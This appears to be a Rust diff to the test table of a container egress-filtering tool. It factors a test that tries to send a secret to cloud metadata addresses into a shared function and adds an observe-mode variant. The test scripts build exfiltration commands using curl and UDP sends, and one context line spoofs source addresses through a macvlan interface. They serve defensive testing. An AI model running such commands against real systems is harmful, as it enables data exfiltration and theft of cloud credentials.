@@ -94,23 +94,15 @@ pub(crate) const ROWS: &[Row] = &[
         name: "metadata_services",
         attack: "the addresses under which clouds tell secrets, by datagram and by HTTP",
         defence: "special ranges are never dialled, whatever a rule by name says",
-        script: |scene| {
-            let secret = &scene.secret;
-            let addresses = match scene.circumstances.family {
-                Family::V4 => [
-                    "169.254.169.254",
-                    "169.254.170.2",
-                    "100.100.100.200",
-                    "168.63.129.16",
-                ]
-                .as_slice(),
-                Family::V6 => ["[fd00:ec2::254]"].as_slice(),
-            };
-            let tries = addresses.iter().map(|address| {
-                format!("attacker send udp {address}:80 {secret}; curl -g -sS -m 2 http://{address}/{secret}")
-            });
-            format!("{}; :", tries.collect::<Vec<_>>().join("; "))
-        },
+        script: to_metadata,
+        ..ROW
+    },
+    Row {
+        name: "metadata_services_in_observe_mode",
+        attack: "the same from a container that is observed: all that no rule allows passes there",
+        defence: "what is never open stays shut, whatever the mode",
+        script: to_metadata,
+        settings: "-observing",
         ..ROW
     },
     Row {
@@ -148,4 +140,25 @@ fn with_foreign_addresses(scene: &Scene<'_>) -> String {
          /bin/ip link add link eth0 name ev0 type macvlan; /bin/ip link set ev0 up; /bin/ip addr add 10.9.9.9/24 dev ev0
          for source in 198.51.100.77 172.17.99.99 10.9.9.9; do attacker send udp {target}:9999 {secret} from $source; done"
     )
+}
+
+/// The secret, to where clouds tell theirs.
+fn to_metadata(scene: &Scene<'_>) -> String {
+    let secret = &scene.secret;
+    let addresses = match scene.circumstances.family {
+        Family::V4 => [
+            "169.254.169.254",
+            "169.254.170.2",
+            "100.100.100.200",
+            "168.63.129.16",
+        ]
+        .as_slice(),
+        Family::V6 => ["[fd00:ec2::254]"].as_slice(),
+    };
+    let tries = addresses.iter().map(|address| {
+        format!(
+            "attacker send udp {address}:80 {secret}; curl -g -sS -m 2 http://{address}/{secret}"
+        )
+    });
+    format!("{}; :", tries.collect::<Vec<_>>().join("; "))
 }
